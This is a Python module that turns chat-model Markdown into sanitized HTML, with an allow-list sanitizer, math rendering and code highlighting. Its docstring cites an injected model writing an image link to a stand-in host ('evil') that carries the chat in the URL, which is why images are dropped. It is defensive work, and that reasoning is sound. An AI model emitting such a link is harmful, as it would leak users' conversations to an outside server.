"""Markdown to HTML that is safe to insert into the page.

Raw HTML in the source is escaped by the parser (html=False), unsafe link
schemes are refused by markdown-it, and the result still passes through an
allow-list sanitizer (nh3) so a parser bug cannot let a script through.
Images are dropped: a model talked into writing `![](https://evil/?q=<chat>)`
would otherwise leak the conversation from the reader's browser.

Formulas ($…$, $$…$$, \\(…\\), \\[…\\]) and ```mermaid fences stay source
text here, in marked elements (`.math`, `code.language-mermaid`): the
browser typesets them (static/js/lib/math.js, diagrams.js) after the answer
is complete, and where it cannot, the reader still sees the source.
"""

from functools import lru_cache

import nh3
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from mdit_py_plugins.dollarmath import dollarmath_plugin
from mdit_py_plugins.texmath import texmath_plugin
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

_FORMATTER = HtmlFormatter(nowrap=True)

_ALLOWED_TAGS = {
    "p",
    "br",
    "hr",
    "strong",
    "em",
    "del",
    "s",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "a",
    "span",
    "div",
}
_ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "code": {"class"},
    "span": {"class"},
    "ol": {"start"},
}


# Table cells say their alignment with a class (app.css), not the style
# attribute markdown-it writes: the Content-Security-Policy refuses those.
_ALIGNMENTS = {"align-left", "align-center", "align-right"}
_MATH_CLASSES = {"math", "math-inline", "math-display"}
_ALLOWED_CLASSES = {"th": _ALIGNMENTS, "td": _ALIGNMENTS, "div": _MATH_CLASSES}


def _alignment_as_class(state) -> None:
    for token in state.tokens:
        style = token.attrs.pop("style", None) if token.type in ("th_open", "td_open") else None
        if style and style.startswith("text-align:"):
            token.attrSet("class", "align-" + style.removeprefix("text-align:"))


def _highlight(code: str, lang: str, attrs) -> str:
    try:
        lexer = get_lexer_by_name(lang.strip()) if lang and lang.strip() else None
    except ClassNotFound:
        lexer = None
    if lexer is None:
        return ""  # markdown-it escapes the plain code itself
    return highlight(code, lexer, _FORMATTER)


def _math(display: str, tag: str = "span"):
    """A renderer putting the TeX source, escaped, in a marked element."""

    def render(self, tokens, idx, options, env) -> str:
        return f'<{tag} class="math math-{display}">{escapeHtml(tokens[idx].content.strip())}</{tag}>' + (
            "\n" if tag == "div" else ""
        )

    return render


def _escaped(src: str, pos: int) -> bool:
    """Whether an odd number of backslashes stands before src[pos]."""
    slashes = 0
    while pos - slashes > 0 and src[pos - slashes - 1] == "\\":
        slashes += 1
    return slashes % 2 == 1


def _inline_dollars(state, silent: bool) -> bool:
    """$…$ and $$…$$ inside a paragraph, by Pandoc's rules, so prices are not
    formulas: the opening $ neither follows a digit nor comes before a space,
    the closing one neither follows a space nor comes before a digit ("$5 and
    $10" stays text). dollarmath's own inline rule has these options but
    reads the character before a paragraph's first $ as its last one."""
    src, pos, end = state.src, state.pos, state.posMax
    if src[pos] != "$" or _escaped(src, pos) or (pos > 0 and src[pos - 1].isdigit()):
        return False
    mark = "$$" if src.startswith("$$", pos) else "$"
    start = pos + len(mark)
    if start >= end or src[start].isspace():
        return False
    close = src.find(mark, start, end)
    while close != -1 and _escaped(src, close):
        close = src.find(mark, close + 1, end)
    if close == -1 or close == start or src[close - 1].isspace():
        return False
    after = close + len(mark)
    if after < end and src[after].isdigit():
        return False
    if not silent:
        token = state.push("math_inline_double" if mark == "$$" else "math_inline", "math", 0)
        token.content = src[start:close]
        token.markup = mark
    state.pos = after
    return True


def _add_math(parser: MarkdownIt) -> None:
    """$$…$$ blocks (dollarmath), $…$ inline (above), and LaTeX's own \\(…\\)
    and \\[…\\] (texmath), as models write all of them."""
    dollarmath_plugin(parser, allow_labels=False, double_inline=True)
    parser.inline.ruler.at("math_inline", _inline_dollars)  # dollarmath's, the first of the name
    texmath_plugin(parser, delimiters="brackets")
    parser.add_render_rule("math_inline", _math("inline"))
    parser.add_render_rule("math_inline_double", _math("display"))
    parser.add_render_rule("math_block", _math("display", "div"))
    parser.add_render_rule("math_block_eqno", _math("display", "div"))


@lru_cache(maxsize=1)
def _parser() -> MarkdownIt:
    # breaks: a single line break is a <br>, as chat models write poems and
    # addresses line by line and mean each line to stand (ChatGPT shows them so).
    options = {"html": False, "linkify": False, "breaks": True, "highlight": _highlight}
    parser = MarkdownIt("commonmark", options).enable(["table", "strikethrough"])
    parser.core.ruler.push("alignment_as_class", _alignment_as_class)
    _add_math(parser)
    return parser


def render_markdown(text: str) -> str:
    html = _parser().render(text or "")
    return nh3.clean(
        html,
        tags=_ALLOWED_TAGS,
        attributes=_ALLOWED_ATTRIBUTES,
        url_schemes={"http", "https", "mailto"},
        link_rel="noopener noreferrer nofollow",
        allowed_classes=_ALLOWED_CLASSES,
    )
